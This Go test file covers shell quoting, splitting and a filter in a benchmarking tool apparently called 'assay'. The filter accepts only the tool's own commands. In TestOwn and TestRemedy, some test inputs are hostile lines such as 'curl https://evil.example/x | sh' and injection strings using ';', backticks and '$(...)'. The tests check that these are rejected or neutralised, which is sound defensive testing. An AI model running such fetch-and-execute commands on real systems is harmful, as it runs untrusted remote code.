package shell

import (
	"os/exec"
	"slices"
	"strings"
	"testing"
)

var words = []string{"go1.26.8", "HEAD~1", "main^", "origin/main", "-bench=.", "./...", "a b", "it's", "~/x", "", "$HOME", "a\"b'c", "`x`", "a\\b", "{bin} x",
	"'/func_(.+)'", "-bench=^A$|B", "#1", "a#1", "tab\there", "two\nlines", "!!", "*", "x=1", "=x", "%1", "-gcflags=all=-l -B", "naïve"}

func TestQuoteLeavesPlainWordsAlone(t *testing.T) {
	for _, w := range []string{"HEAD~1", "main^", "v2.2.4", "-bench=.", "./...", "GOGC=100", "example.com/m@v1.2.3", "path:/a/b"} {
		if got := Quote(w); got != w {
			t.Errorf("Quote(%q) = %s", w, got)
		}
	}
}

// What was joined must be what a shell makes words of.
func TestJoinIsReadAgain(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no shell here")
	}
	out, err := exec.Command(sh, "-c", `for w in `+Join(words)+`; do printf '%s\0' "$w"; done`).Output()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00"); !slices.Equal(got, words) {
		t.Errorf("got  %q\nwant %q", got, words)
	}
}

// What was joined is split into the same words.
func TestSplitJoined(t *testing.T) {
	if got, err := Split(Join(words)); err != nil || !slices.Equal(got, words) {
		t.Errorf("got  %q, %v\nwant %q", got, err, words)
	}
}

// A line of a record is assay's own, or none.
func TestOwn(t *testing.T) {
	for in, want := range map[string]string{
		"assay run --budget=5m studies/x":        "assay run --budget=5m studies/x",
		`assay compare 'a: . GOGC=50' b -- "-x"`: "assay compare 'a: . GOGC=50' b -- -x",
		"curl https://evil.example/x | sh":       "",
		"assay run x; curl evil | sh":            "assay run 'x;' curl evil '|' sh",
		"assay run `curl evil`":                  "assay run '`curl' 'evil`'",
		"assay run $(curl evil)":                 "assay run '$(curl' 'evil)'",
		"assay ../x y":                           "",
		"assay":                                  "",
		"assay run 'x":                           "",
		"":                                       "",
	} {
		if got := Own(in); got != want {
			t.Errorf("%s: got %s, want %s", in, got, want)
		}
	}
}

// Words that look like flags stand behind two dashes.
func TestWords(t *testing.T) {
	for want, words := range map[string][]string{"last X": {"last", "X"}, "-- last -n_3": {"last", "-n_3"}, "": nil} {
		if got := Join(Words(words...)); got != want {
			t.Errorf("%q: got %s, want %s", words, got, want)
		}
	}
}

// A command of assay is to try; words are advice, also where an older record has them in the
// place of a command.
func TestRemedy(t *testing.T) {
	for _, x := range []struct{ try, advice, own, words string }{
		{"assay doctor", "", "assay doctor", ""},
		{"assay run 'x y'", "(resumes)", "assay run 'x y'", "(resumes)"},
		{"", "--layouts=1", "", "--layouts=1"},
		{"a quieter machine (assay doctor)", "", "", "a quieter machine (assay doctor)"},
		{"assay doctor, or a larger --budget", "", "", "assay doctor, or a larger --budget"},
		{"rm x", "two words", "", "two words"},
		{"curl evil | sh", "", "", ""}, {"x && y", "", "", ""}, {"", "curl evil | sh", "", ""},
		{"assay run x|y", "", "assay run 'x|y'", ""},
	} {
		if own, words := Remedy(x.try, x.advice); own != x.own || words != x.words {
			t.Errorf("%q and %q: got %q and %q, want %q and %q", x.try, x.advice, own, words, x.own, x.words)
		}
	}
}

func TestSplit(t *testing.T) {
	for _, test := range []struct {
		s    string
		want []string
	}{
		{"", nil},
		{"  a\tb  \n c ", []string{"a", "b", "c"}},
		{`'a b' "c d"e`, []string{"a b", "c de"}},
		{`a'b'c ''`, []string{"abc", ""}},
		{`"it's" '"'`, []string{"it's", `"`}},
		{`C:\go $HOME *`, []string{`C:\go`, "$HOME", "*"}},
	} {
		got, err := Split(test.s)
		if err != nil || !slices.Equal(got, test.want) {
			t.Errorf("Split(%q) = %q, %v, want %q", test.s, got, err, test.want)
		}
	}
	for _, s := range []string{`'a`, `a"b c`} {
		if got, err := Split(s); err == nil {
			t.Errorf("Split(%q) = %q, want an error", s, got)
		}
	}
}

func TestQuote(t *testing.T) {
	for s, want := range map[string]string{
		"~/x": "'~/x'", "": "''", "-bench=A|B": "'-bench=A|B'",
		"'-gcflags=-d=x -l' .": `"'-gcflags=-d=x -l' ."`, "it's $HOME": `'it'"'"'s $HOME'`,
	} {
		if got := Quote(s); got != want {
			t.Errorf("Quote(%q) = %s, want %s", s, got, want)
		}
	}
}
